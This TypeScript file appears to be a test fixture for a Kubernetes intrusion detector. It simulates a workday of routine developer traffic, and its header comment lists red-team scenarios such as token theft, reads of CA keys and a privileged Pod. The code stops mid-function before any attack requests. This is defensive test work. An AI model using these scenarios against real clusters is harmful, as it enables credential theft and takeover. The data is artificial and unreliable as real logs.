import { LINUX, MAC, PLATFORM_HINT, WIN, WS_UPGRADE, prng, withAttacks, attackAdder, laptopAttacker, lastRequestOf, type AttackRequest, type DayEvent, type Login, type StaffMember } from './workday.js';

/**
 * A ninth replayed day, written as an outside tester would after reading docs/risk.md: a Dublin
 * product company (UTC all winter, so the night shift crosses midnight UTC) whose engineers work
 * the way teams do once the cluster is their development environment. The warm-up day is Tuesday
 * 12 January 2027, the scored day the Wednesday after.
 *
 * Routine, as the tools send it:
 * - preview environments: each app engineer opens a namespace per pull request (`pr-<n>`, new
 *   numbers every day) with `helm upgrade --install --create-namespace --wait` (Helm/3.16.3: the
 *   release history's Secret list in the namespace not created yet, the namespace, the release
 *   Secret, the chart's objects, the release Secret updated), port-forwards to it, `kubectl logs -f`,
 *   a `helm upgrade` after the next push, and deletes the namespace (`kubectl delete ns`) when the
 *   pull request is merged, the previous day's in the morning;
 * - Skaffold dev loops in the engineer's own `dev-<name>` namespace: `kubectl apply` of the
 *   manifests every 30–120 s (GET each object, PATCH the Deployment's new image), Skaffold's own
 *   client-go watching the run's pods and following their logs, `kubectl port-forward` again for
 *   every new pod, and at the end the cleanup `kubectl delete --ignore-not-found --wait=false -f -`:
 *   twelve deletes within two seconds;
 * - the platform team: one engineer rotates the image-pull Secret `regcred` in 25 namespaces with
 *   a loop of `kubectl apply` (one namespace a second), another labels every namespace
 *   (`kubectl label ns --all cost-centre=…`) and edits a Karpenter NodePool's limits;
 * - the VS Code Kubernetes extension, which runs `kubectl get` every 5 seconds for an hour and a half;
 * - kubelogin refreshing the ID token every hour (the minter's hourly token: same `auth_time`,
 *   new `iat`/`exp`);
 * - `spark-submit --master k8s://` from a data engineer's laptop at home (fabric8's client: the
 *   driver Pod with its S3 credentials from a Secret, then the driver's ConfigMap and Service by
 *   server-side apply, then a watch), the driver's UI by port-forward, the driver's log;
 * - a night-shift SRE from 20:00 to 04:00 UTC, paged at 00:40; a remote engineer on Starlink,
 *   whose public address moves to another /24 of Starlink's pool about every 15 minutes (the
 *   dish's own address is in CGNAT's 100.64/10, but the gateway sees the pool's public one);
 * - five engineers on one shared Windows jump box (one address, one kubectl build for all).
 *
 * The attacks, each from where an outside red team would stand: an infostealer's cookie jar
 * replayed through a residential proxy with the victim's exact browser; a stolen laptop used at the
 * thief's home that night; a colleague on the jump box using another's token; a fresh platform
 * token (phished, and taken by malware on the platform laptop) reading the mesh CA, Argo CD's
 * cluster Secrets and cert-manager's CA key; cluster-scoped custom resources (a ClusterIssuer
 * pointed elsewhere, a Kyverno ClusterPolicy mutating every Pod, Karpenter node classes with
 * userData); a preview namespace switched to `privileged` and a privileged Pod in it; an Ingress
 * whose snippet serves the ingress controller's token; a token from the Starlink engineer used
 * from Starlink's own pool.
 */

export const D9_DAY0 = Date.UTC(2027, 0, 12, 0, 0, 0); // Tuesday 12 January 2027 (UTC): warm-up, not scored
export const D9_DAY1 = Date.UTC(2027, 0, 13, 0, 0, 0); // Wednesday: the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;

const KUBECTL = (v: string, os: string) => `kubectl/${v} (${os}) kubernetes/${v === 'v1.32.1' ? 'e9c9be4' : '48d3e8b'}`;
/** Helm's client sets its own agent: `Helm/` and its version without the `v`. */
const HELM = 'Helm/3.16.3';
/** Skaffold's own client-go (its pod watcher and log follower); its builds do not stamp client-go's version. */
const SKAFFOLD = (os: string) => `skaffold/v0.0.0 (${os}) kubernetes/$Format`;
/** spark-submit's Kubernetes client (Spark 3.5 ships fabric8 6.7.2). */
const FABRIC8 = 'fabric8-kubernetes-client/6.7.2';
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36`;
const CH_UA = '"Not A(Brand";v="8", "Chromium";v="132", "Google Chrome";v="132"';

const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const SSA = { 'content-type': 'application/apply-patch+yaml' };
const JSON_CT = { 'content-type': 'application/json' };
/** kubectl ≥ 1.31 port-forwards over a WebSocket carrying SPDY's port-forward protocol. */
const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

const TEAMS = ['payments', 'search', 'checkout', 'catalog', 'ledger'] as const;
const ENVS = ['dev', 'staging', 'prod'] as const;

type Where = 'office' | 'home' | 'jumpbox' | 'starlink';
type Kind = 'preview' | 'skaffold' | 'platform-rotate' | 'platform-label' | 'ide' | 'spark' | 'night' | 'starlink' | 'jumpbox';

interface Person extends StaffMember<Where> {
  kind: Kind;
  /** Their own dev namespace (Skaffold's), or the team's namespaces' prefix. */
  home: string;
  browser: string;
}

/** The jump box in the data centre: one address, one kubectl build, five engineers' Windows profiles. */
const JUMPBOX_IP = '10.40.8.15';
const JUMPBOX_UA = KUBECTL('v1.31.4', 'windows/amd64');

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (name: string, kind: Kind, svc: string, block: [number, number], where: Where, os = LINUX, v = 'v1.32.1') => {
    const idx = out.length;
    const start = block[0] + rand() * 0.4;
    const kubectlOs = os === MAC ? 'darwin/arm64' : os === WIN ? 'windows/amd64' : 'linux/amd64';
    out.push({
      name: `d9-${name}@example.ie`,
      idx,
      svc,
      kind,
      home: name,
      warm: [[start, block[1], where]],
      scored: [[block[0] + rand() * 0.4, block[1] + rand() * 0.3, where]],
      os,
      kubectlOs,
      kubectlVersion: v,
      browser: CHROME(os),
    });
  };
  for (let k = 0; k < 4; k++) add(`preview-${k}`, 'preview', TEAMS[k]!, [8.8, 17.2], k === 3 ? 'home' : 'office', k % 2 ? MAC : LINUX);
  add('skaffold-0', 'skaffold', 'catalog', [9, 17.5], 'office', MAC, 'v1.31.4');
  add('skaffold-1', 'skaffold', 'ledger', [8.5, 16.8], 'home');
  add('platform-0', 'platform-rotate', 'platform', [8.6, 17], 'office', MAC);
  add('platform-1', 'platform-label', 'platform', [9.1, 17.4], 'office');
  add('vscode', 'ide', 'ledger', [9.2, 17.5], 'office', WIN, 'v1.31.4');
  add('data', 'spark', 'data', [9, 17], 'home', MAC);
  add('night', 'night', 'payments', [20, 28], 'home');
  add('starlink', 'starlink', 'checkout', [8.5, 16.5], 'starlink');
  for (let k = 0; k < 5; k++) add(`jump-${k}`, 'jumpbox', TEAMS[k]!, [9 + k * 0.1, 17], 'jumpbox', WIN, 'v1.31.4');
  return out;
}

/** Starlink's public IPv4 pool at the Dublin POP (the gateway's view: a /24 of one /16 every ~15 min). */
function starlinkAt(t: number, day: number): string {
  const slot = Math.floor((t - day) / (15 * M));
  const third = (slot * 37 + 11) % 200;
  return `98.97.${20 + third}.${(slot * 13) % 250 + 2}`;
}

function addressOf(p: Person, where: Where, t: number, day: number): string {
  const i = p.idx;
  if (where === 'office') return `10.44.${i % 6}.${60 + i}`;
  if (where === 'jumpbox') return JUMPBOX_IP;
  if (where === 'starlink') return starlinkAt(t, day);
  // Homes: each their own fixed broadband line (Irish ISPs).
  return `${[86, 78, 109, 37][i % 4]}.${40 + i}.${(i * 17) % 200 + 10}.${30 + i}`;
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string };

const pod = (app: string, rand: () => number) => `${app}-7c9d5b-${['x2k8q', 'm4p7z', 'c8w3n', 'r5t1v'][Math.floor(rand() * 4)]}`;

/** A plain day's kubectl work in the team's namespaces. */
function appTask(rand: () => number, team: string): Req[] {
  const r = rand();
  const env = r < 0.5 ? 'dev' : r < 0.8 ? 'staging' : 'prod';
  const ns = `${team}-${env}`;
  const po = pod(`${team}-api`, rand);
  const k = rand();
  if (k < 0.25) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.4) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=200` }];
  if (k < 0.5) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.57) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${team}-db` }];
  if (k < 0.62) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS_UPGRADE }];
  if (k < 0.67) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${team}-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-01-13T10:00:00Z' } } } } }) }];
  if (k < 0.7) return [{ method: 'DELETE', path: `/api/v1/namespaces/${ns}/pods/${po}` }];
  if (k < 0.8) return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/services?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

const releaseSecret = (rel: string, ns: string, v: number, status: string) =>
  JSON.stringify({ kind: 'Secret', apiVersion: 'v1', metadata: { name: `sh.helm.release.v1.${rel}.v${v}`, namespace: ns, labels: { name: rel, owner: 'helm', status, version: String(v) } }, type: 'helm.sh/release.v1', data: { release: 'H4sIAAAAAAAC/+y9a3PbRpYw/FcQ' } });

/** The chart's Deployment: the app's environment comes from the chart's Secret (envFrom). */
const previewDeployment = (svc: string, ns: string, tag: string) =>
  JSON.stringify({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: `${svc}-web`, namespace: ns, labels: { 'app.kubernetes.io/instance': svc, 'app.kubernetes.io/managed-by': 'Helm' }, annotations: { 'meta.helm.sh/release-name': svc, 'meta.helm.sh/release-namespace': ns } },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: `${svc}-web` } },
      template: {
        metadata: { labels: { app: `${svc}-web` } },
        spec: {
          securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
          imagePullSecrets: [{ name: 'regcred' }],
          containers: [{ name: 'web', image: `ghcr.io/example-ie/${svc}:${tag}`, ports: [{ containerPort: 8080 }], envFrom: [{ secretRef: { name: `${svc}-env` } }], securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } } }],
        },
      },
    },
  });

/** `helm upgrade --install <svc> ./chart -n pr-<n> --create-namespace --wait`, as Helm 3.16 sends it. */
function helmInstall(svc: string, ns: string, tag: string): Req[] {
  const meta = (kind: string, name: string) => ({ name, namespace: ns, labels: { 'app.kubernetes.io/instance': svc, 'app.kubernetes.io/managed-by': 'Helm' }, annotations: { 'meta.helm.sh/release-name': svc, 'meta.helm.sh/release-namespace': ns }, kind });
  const objs: [string, string, unknown][] = [
    ['/api/v1', 'serviceaccounts', { apiVersion: 'v1', kind: 'ServiceAccount', metadata: meta('ServiceAccount', `${svc}-web`) }],
    ['/api/v1', 'secrets', { apiVersion: 'v1', kind: 'Secret', type: 'Opaque', metadata: meta('Secret', `${svc}-env`), data: { DATABASE_URL: 'cG9zdGdyZXM6Ly9wcmV2aWV3', STRIPE_KEY: 'c2tfdGVzdF81MUg=' } }],
    ['/api/v1', 'configmaps', { apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('ConfigMap', `${svc}-web`), data: { FEATURE_FLAGS: 'preview' } }],
    ['/api/v1', 'services', { apiVersion: 'v1', kind: 'Service', metadata: meta('Service', `${svc}-web`), spec: { selector: { app: `${svc}-web` }, ports: [{ port: 80, targetPort: 8080 }] } }],
    ['/apis/apps/v1', 'deployments', JSON.parse(previewDeployment(svc, ns, tag))],
    ['/apis/networking.k8s.io/v1', 'ingresses', { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('Ingress', `${svc}-web`), spec: { ingressClassName: 'nginx', rules: [{ host: `${ns}.preview.example.ie`, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: `${svc}-web`, port: { number: 80 } } } }] } }] } }],
  ];
  return [
    { method: 'GET', path: '/version?timeout=32s' },
    { method: 'GET', path: '/api?timeout=32s' },
    { method: 'GET', path: '/apis?timeout=32s' },
    // upgrade --install asks the release's history first, in a namespace that does not exist yet.
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets?labelSelector=name%3D${svc}%2Cowner%3Dhelm` },
    { method: 'POST', path: '/api/v1/namespaces', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns, labels: { name: ns } } }) },
    { method: 'POST', path: `/api/v1/namespaces/${ns}/secrets`, headers: JSON_CT, body: releaseSecret(svc, ns, 1, 'pending-install') },
    ...objs.map(([base, res, body]): Req => ({ method: 'POST', path: `${base}/namespaces/${ns}/${res}`, headers: JSON_CT, body: JSON.stringify(body) })),
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-web` },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/replicasets?labelSelector=app%3D${svc}-web` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${svc}-web` },
    { method: 'PUT', path: `/api/v1/namespaces/${ns}/secrets/sh.helm.release.v1.${svc}.v1`, headers: JSON_CT, body: releaseSecret(svc, ns, 1, 'deployed') },
  ].map((q) => ({ ...q, ua: HELM }));
}

/** `helm upgrade` after the next push: the history, the new release record, the Deployment's three-way patch, the records' statuses. */
function helmUpgrade(svc: string, ns: string, tag: string, v: number): Req[] {
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets?labelSelector=name%3D${svc}%2Cowner%3Dhelm%2Cstatus%3Ddeployed` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets?labelSelector=name%3D${svc}%2Cowner%3Dhelm` },
    { method: 'POST', path: `/api/v1/namespaces/${ns}/secrets`, headers: JSON_CT, body: releaseSecret(svc, ns, v, 'pending-upgrade') },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-web` },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-web`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'web', image: `ghcr.io/example-ie/${svc}:${tag}` }] } } } }) },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${svc}-web` },
    { method: 'PUT', path: `/api/v1/namespaces/${ns}/secrets/sh.helm.release.v1.${svc}.v${v - 1}`, headers: JSON_CT, body: releaseSecret(svc, ns, v - 1, 'superseded') },
    { method: 'PUT', path: `/api/v1/namespaces/${ns}/secrets/sh.helm.release.v1.${svc}.v${v}`, headers: JSON_CT, body: releaseSecret(svc, ns, v, 'deployed') },
  ].map((q) => ({ ...q, ua: HELM }));
}

/** `kubectl port-forward svc/<svc>-web 8080:80 -n <ns>`: the Service, its pods, the tunnel. */
function portForward(svc: string, ns: string, po: string): Req[] {
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/services/${svc}` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${svc}` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/portforward`, headers: WS_PF },
  ];
}

/** The Skaffold project's manifests: [base, resource, name]. */
const SKAFFOLD_OBJECTS: [string, string, string][] = [
  ['/api/v1', 'serviceaccounts', 'app'],
  ['/api/v1', 'secrets', 'app-env'],
  ['/api/v1', 'configmaps', 'app-config'],
  ['/api/v1', 'configmaps', 'worker-config'],
  ['/api/v1', 'services', 'app'],
  ['/api/v1', 'services', 'worker'],
  ['/apis/apps/v1', 'deployments', 'app'],
  ['/apis/apps/v1', 'deployments', 'worker'],
  ['/apis/networking.k8s.io/v1', 'ingresses', 'app'],
  ['/apis/autoscaling/v2', 'horizontalpodautoscalers', 'app'],
  ['/apis/policy/v1', 'poddisruptionbudgets', 'app'],
  ['/apis/networking.k8s.io/v1', 'networkpolicies', 'app'],
];

/** One `kubectl apply -f -` of Skaffold's rendered manifests: GET each object, patch what changed (the new image). */
function skaffoldApply(ns: string, build: number, first: boolean): Req[] {
  const out: Req[] = [];
  for (const [base, res, name] of SKAFFOLD_OBJECTS) {
    out.push({ method: 'GET', path: `${base}/namespaces/${ns}/${res}/${name}` });
    if (first) out.push({ method: 'POST', path: `${base}/namespaces/${ns}/${res}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: JSON_CT, body: JSON.stringify({ metadata: { name, namespace: ns, labels: { 'app.kubernetes.io/managed-by': 'skaffold' } } }) });
    else if (res === 'deployments')
      out.push({ method: 'PATCH', path: `${base}/namespaces/${ns}/${res}/${name}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { labels: { 'skaffold.dev/run-id': 'a41f0b6e' } }, spec: { containers: [{ name, image: `registry.dev.example.ie/${ns}/${name}:${build.toString(16)}f3c2a` }] } } } }) });
  }
  return out;
}

/** `kubectl delete --ignore-not-found=true --wait=false -f -` of the same manifests: twelve deletes within two seconds. */
function skaffoldDelete(ns: string): Req[] {
  return SKAFFOLD_OBJECTS.map(([base, res, name]) => ({ method: 'DELETE', path: `${base}/namespaces/${ns}/${res}/${name}`, headers: JSON_CT, body: '{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}' }));
}

/** The namespaces the image-pull Secret lives in (every app namespace pulling from ghcr). */
const PULL_NAMESPACES = [...TEAMS.flatMap((t) => ENVS.map((e) => `${t}-${e}`)), 'data', 'ml-serving', 'ml-training', 'dev-skaffold-0', 'dev-skaffold-1', 'docs', 'status-page', 'preview-base', 'growth-staging', 'growth-prod'];

/** Every namespace of the cluster, as `kubectl label ns --all` walks them. */
function allNamespaces(prs: string[]): string[] {
  return ['default', 'kube-system', 'kube-public', 'kube-node-lease', 'istio-system', 'istio-ingress', 'cert-manager', 'argocd', 'kyverno', 'karpenter', 'monitoring', 'ingress-nginx', 'stepgate', ...PULL_NAMESPACES, ...prs];
}

/** spark-submit --master k8s://https://kube.example.ie --deploy-mode cluster, as Spark 3.5 sends it. */
function sparkSubmit(app: string): Req[] {
  const ns = 'data';
  const id = `${app}-${app.length.toString(16)}8e1d94a7c2-driver`;
  const driver = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: id, namespace: ns, labels: { 'spark-app-selector': `spark-${app}`, 'spark-role': 'driver', 'spark-version': '3.5.4' } },
    spec: {
      serviceAccountName: 'spark',
      restartPolicy: 'Never',
      containers: [{
        name: 'spark-kubernetes-driver',
        image: 'ghcr.io/example-ie/spark-jobs:3.5.4-2027.01',
        args: ['driver', '--properties-file', '/opt/spark/conf/spark.properties', '--class', 'ie.example.jobs.DailyRevenue', 'local:///opt/spark/jobs/revenue.jar'],
        env: [
          { name: 'SPARK_DRIVER_BIND_ADDRESS', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
          { name: 'AWS_ACCESS_KEY_ID', valueFrom: { secretKeyRef: { name: 's3-creds', key: 'access-key' } } },
          { name: 'AWS_SECRET_ACCESS_KEY', valueFrom: { secretKeyRef: { name: 's3-creds', key: 'secret-key' } } },
        ],
        resources: { requests: { cpu: '1', memory: '4505Mi' }, limits: { memory: '4505Mi' } },
        volumeMounts: [{ name: 'spark-local-dir-1', mountPath: '/var/data/spark-7d1' }, { name: 'spark-conf-volume-driver', mountPath: '/opt/spark/conf' }],
      }],
      volumes: [{ name: 'spark-local-dir-1', emptyDir: {} }, { name: 'spark-conf-volume-driver', configMap: { name: `spark-drv-${app}-conf-map` } }],
    },
  };
  return [
    { method: 'POST', path: `/api/v1/namespaces/${ns}/pods`, headers: JSON_CT, body: JSON.stringify(driver) },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/services/${id}-svc?fieldManager=fabric8&force=true`, headers: SSA, body: JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: `${id}-svc`, namespace: ns }, spec: { clusterIP: 'None', selector: { 'spark-role': 'driver' }, ports: [{ name: 'driver-rpc-port', port: 7078 }] } }) },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/configmaps/spark-drv-${app}-conf-map?fieldManager=fabric8&force=true`, headers: SSA, body: JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `spark-drv-${app}-conf-map`, namespace: ns }, data: { 'spark.properties': 'spark.executor.instances=8\n' } }) },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?fieldSelector=metadata.name%3D${id}&watch=true` },
  ].map((q) => ({ ...q, ua: FABRIC8 }));
}

export function workday9(seed = 71): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 9);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const prNumber = (p: Person, day: number) => 4100 + (day === D9_DAY1 ? 20 : 0) + p.idx * 3 + Math.floor(rand() * 3);
  const prsOf = new Map<string, string[]>();
  for (const day of [D9_DAY0, D9_DAY1]) {
    const scored = day === D9_DAY1;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const blocks = scored ? p.scored : p.warm;
      const [from, to, where] = blocks[0]!;
      const mine: DayEvent[] = [];
      // One sign-in per sitting (two factors), 40 s before its first request; kubelogin refreshes the token hourly.
      const login: Login = { sub: p.name, sid: `${p.name}:${day}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
      const kubectl = p.kind === 'jumpbox' ? JUMPBOX_UA : KUBECTL(p.kubectlVersion, p.kubectlOs);
      const push = (t: number, q: Req, browser = false) => {
        const ua = q.ua ?? (browser ? p.browser : kubectl);
        const headers = browser ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[p.os]!, ...q.headers } : q.headers;
        mine.push({
          at: Math.round(t),
          actor: p.name,
          scored,
          ip: addressOf(p, where, t, day),
          ua,
          login,
          method: q.method,
          path: q.path,
          ...(headers ? { headers } : {}),
          ...(q.host ? { host: q.host } : {}),
          ...(q.body !== undefined ? { body: q.body } : {}),
        });
      };
      const seq = (t: number, reqs: Req[], gapMs: number) => reqs.forEach((q, k) => push(t + k * gapMs, q));
      // Replace the routine in [t, t + clearMin) with a run of requests.
      const run = (t: number, reqs: Req[], gapMs: number, clearMin: number) => {
        for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= t - 2 * M && mine[k]!.at <= t + clearMin * M) mine.splice(k, 1);
        seq(t, reqs, gapMs);
      };
      // Routine between tasks: the team's namespaces (the platform team: the cluster's), now and then the dashboards.
      let t = at(from);
      while (t < at(to)) {
        const h = (t - day) / H;
        if (h >= 12.5 && h < 13.2 && p.kind !== 'night') {
          t = at(13.2);
          continue;
        }
        let reqs: Req[];
        let browser = false;
        if (rand() < 0.1) {
          browser = true;
          reqs = rand() < 0.5 ? [{ method: 'GET', host: 'grafana.localhost', path: `/d/k8s-workloads/kubernetes-workloads?var-namespace=${p.svc}-prod` }] : [{ method: 'GET', host: 'headlamp.localhost', path: `/clusters/main/api/v1/namespaces/${p.svc}-staging/pods` }];
        } else if (p.kind === 'platform-rotate' || p.kind === 'platform-label') {
          const k = rand();
          reqs =
            k < 0.3 ? [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }]
            : k < 0.5 ? [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }]
            : k < 0.6 ? [{ method: 'GET', path: '/apis/cert-manager.io/v1/certificates?limit=500' }]
            : k < 0.7 ? [{ method: 'GET', path: '/apis/karpenter.sh/v1/nodepools' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodeclaims' }]
            : k < 0.8 ? [{ method: 'GET', path: '/api/v1/namespaces/istio-system/pods?limit=500' }]
            : k < 0.9 ? [{ method: 'GET', path: '/apis/kyverno.io/v1/clusterpolicies' }, { method: 'GET', path: '/apis/wgpolicyk8s.io/v1alpha2/policyreports?limit=500' }]
            : [{ method: 'GET', path: '/api/v1/namespaces?limit=500' }];
        } else if (p.kind === 'spark') {
          const k = rand();
          reqs = k < 0.5 ? [{ method: 'GET', path: '/api/v1/namespaces/data/pods?limit=500' }] : k < 0.8 ? [{ method: 'GET', path: `/api/v1/namespaces/data/pods/${pod('airflow-worker', rand)}/log?tailLines=200` }] : [{ method: 'GET', path: '/api/v1/namespaces/data/secrets/s3-creds' }];
        } else reqs = appTask(rand, p.svc);
        const gap = 500 + rand() * 1500;
        reqs.forEach((q, k) => push(t + k * gap, q, browser));
        t += (p.kind === 'night' ? 12 : 5) * M + rand() * 10 * M;
      }
      if (p.kind === 'preview') {
        // A new pull request's environment mid-morning; yesterday's merged one deleted after standup;
        // a push after lunch (helm upgrade), testing through a port-forward and the logs.
        const n = prNumber(p, day);
        const ns = `pr-${n}`;
        prsOf.set(`${p.name}:${day}`, [ns]);
        const svc = p.svc;
        const po = pod(`${svc}-web`, rand);
        const t0 = at(10 + rand());
        run(t0, helmInstall(svc, ns, `pr-${n}-a1`), 250, 4);
        run(t0 + 6 * M, [...portForward(`${svc}-web`, ns, po), { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=web&follow=true` }], 800, 2);
        const t1 = at(14 + rand());
        run(t1, helmUpgrade(svc, ns, `pr-${n}-b2`, 2), 300, 3);
        run(t1 + 4 * M, portForward(`${svc}-web`, ns, pod(`${svc}-web`, rand)), 800, 2);
        // Yesterday's, when it was not merged yesterday (the others delete theirs the same afternoon).
        const prev = scored && p.idx % 2 === 1 ? prsOf.get(`${p.name}:${D9_DAY0}`)?.[0] : undefined;
        if (prev !== undefined) run(at(9.6 + rand() * 0.3), [{ method: 'GET', path: `/api/v1/namespaces/${prev}` }, { method: 'DELETE', path: `/api/v1/namespaces/${prev}`, headers: JSON_CT, body: '{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}' }], 900, 1);
        // Two of them merge today's too, before leaving.
        if (p.idx % 2 === 0) run(at(16.4 + rand() * 0.4), [{ method: 'GET', path: `/api/v1/namespaces/${ns}` }, { method: 'DELETE', path: `/api/v1/namespaces/${ns}`, headers: JSON_CT, body: '{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}' }], 900, 1);
      }
      if (p.kind === 'skaffold') {
        // `skaffold dev` from 10:00 for an hour and from 14:00 for 45 minutes (on the warm-up day 45
        // minutes): an apply every 30–120 s.
        const ns = `dev-${p.home}`;
        for (const [a, b] of scored ? ([[10, 11], [14, 14.75]] as const) : ([[10, 10.75]] as const)) {
          let tt = at(a + rand() * 0.2);
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= at(b) + 2 * M) mine.splice(k, 1);
          let build = 1;
          let first = true;
          while (tt < at(b)) {
            seq(tt, skaffoldApply(ns, build, first), 60);
            first = false;
            const po = pod('app', rand);
            push(tt + 3 * S, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=skaffold.dev%2Frun-id%3Da41f0b6e&watch=true`, ua: SKAFFOLD(p.kubectlOs) });
            push(tt + 9 * S, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=app&follow=true&sinceSeconds=1`, ua: SKAFFOLD(p.kubectlOs) });
            push(tt + 10 * S, { method: 'GET', path: `/api/v1/namespaces/${ns}/services/app` });
            push(tt + 10.3 * S, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/portforward`, headers: WS_PF });
            build++;
            tt += 30 * S + rand() * 90 * S;
          }
          // Ctrl-C: Skaffold's cleanup deletes what it deployed.
          seq(tt, skaffoldDelete(ns), 150);
        }
      }
      if (p.kind === 'platform-rotate' && scored) {
        // The registry's token expires today: a loop of `kubectl create secret docker-registry … -o yaml --dry-run=client | kubectl apply -n $ns -f -; sleep 1`.
        const t0 = at(10.3);
        const reqs: Req[] = [{ method: 'GET', path: '/api/v1/namespaces?labelSelector=registry%3Dghcr' }];
        for (const ns of PULL_NAMESPACES)
          reqs.push(
            { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/regcred` },
            { method: 'PATCH', path: `/api/v1/namespaces/${ns}/secrets/regcred?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: SMP, body: JSON.stringify({ data: { '.dockerconfigjson': 'eyJhdXRocyI6eyJnaGNyLmlvIjp7InVzZXJuYW1lIjoiZXhhbXBsZS1pZS1wdWxsIn19fQ==' }, metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{"apiVersion":"v1","kind":"Secret"}\n' } } }) },
          );
        const times: number[] = [t0];
        for (let k = 0; k < PULL_NAMESPACES.length; k++) times.push(t0 + 2 * S + k * 1300, t0 + 2 * S + k * 1300 + 250);
        for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= t0 - 2 * M && mine[k]!.at <= t0 + 3 * M) mine.splice(k, 1);
        reqs.forEach((q, k) => push(times[k]!, q));
      }
      if (p.kind === 'platform-label') {
        // The Karpenter NodePool's CPU limit raised by `kubectl apply -f karpenter/` (both days).
        run(at(11.2), [
          { method: 'GET', path: '/apis/karpenter.sh/v1/nodepools/general' },
          { method: 'PATCH', path: '/apis/karpenter.sh/v1/nodepools/general?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', headers: MERGE, body: JSON.stringify({ spec: { limits: { cpu: scored ? '640' : '600', memory: '2560Gi' } } }) },
        ], 400, 1);
        if (scored) {
          // Finance's new cost centre on every namespace: `kubectl label ns --all cost-centre=cc-4410 --overwrite`.
          // The namespaces there are at 14:30: today's pull requests (yesterday's were deleted this morning or last evening).
